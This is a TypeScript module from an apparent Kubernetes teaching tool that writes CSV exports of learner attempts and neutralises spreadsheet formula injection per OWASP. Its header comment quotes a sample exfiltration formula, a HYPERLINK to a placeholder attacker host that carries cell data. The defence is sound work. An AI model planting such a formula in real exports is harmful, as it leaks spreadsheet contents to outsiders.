/**
 * The one CSV writer every export uses (the instructor's grid.csv,
 * attempts.csv and exam.csv, and `./kubelab progress export --format csv`),
 * and the one attempts table they share.
 *
 * Exports are opened in spreadsheets, and a cell a spreadsheet reads as a
 * formula can leak the sheet (`=HYPERLINK("http://evil.example/?"&A2,…)`) or
 * run commands. So every text cell that starts with `=`, `+`, `-`, `@`, a tab
 * or a carriage return gets a leading `'` (OWASP's rule for CSV injection):
 * the spreadsheet shows it as text. Numbers are written by kubelab, never
 * typed by a learner, and stay numbers; booleans are `yes`/`no` everywhere.
 */
import { stringify } from "csv-stringify/sync";
import type { Attempt } from "./types.ts";

export type CsvCell = string | number | boolean | undefined | null;

/** What a spreadsheet might read as the start of a formula. */
const FORMULA_START = /^[=+\-@\t\r]/;

/** A text cell as data: a `'` before a formula's first character. */
export function neutralizeCell(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** Rows (the header first) as CSV text: RFC 4180 quoting, formulas neutralised, `yes`/`no`, empty for none. */
export function toCsv(rows: readonly (readonly CsvCell[])[]): string {
  return stringify(
    rows.map((row) => [...row]),
    {
      cast: {
        string: (value) => neutralizeCell(value),
        boolean: (value) => (value ? "yes" : "no"),
        // A number kubelab computed; NaN or Infinity would be formula-like text, and never is data.
        number: (value) => (Number.isFinite(value) ? String(value) : ""),
      },
    },
  );
}

/** The attempts table's header: one row per Check. */
export const ATTEMPT_CSV_HEADER = [
  "seq",
  "at",
  "learner",
  "name",
  "exercise",
  "passed",
  "score",
  "max_score",
  "duration_ms",
  "mode",
  "lab",
  "locale",
  "infrastructure_error",
  "checks",
] as const;

/**
 * One row per attempt, header first, in the given order. `checks` holds each
 * check as `id:passed|failed|infra-error[:messageId]`, separated by spaces.
 */
export function attemptCsvRows(attempts: readonly Attempt[], nameOf: (learnerId: string) => string): CsvCell[][] {
  return [
    [...ATTEMPT_CSV_HEADER],
    ...attempts.map((a) => [
      a.seq,
      a.at,
      a.learnerId,
      nameOf(a.learnerId),
      a.exercise,
      a.passed,
      a.score,
      a.maxScore,
      a.durationMs,
      a.mode,
      a.labId ?? "",
      a.locale ?? "",
      a.infrastructureError,
      a.checks
        .map((c) =>
          [c.id, c.infrastructureError ? "infra-error" : c.passed ? "passed" : "failed", c.messageId]
            .filter(Boolean)
            .join(":"),
        )
        .join(" "),
    ]),
  ];
}
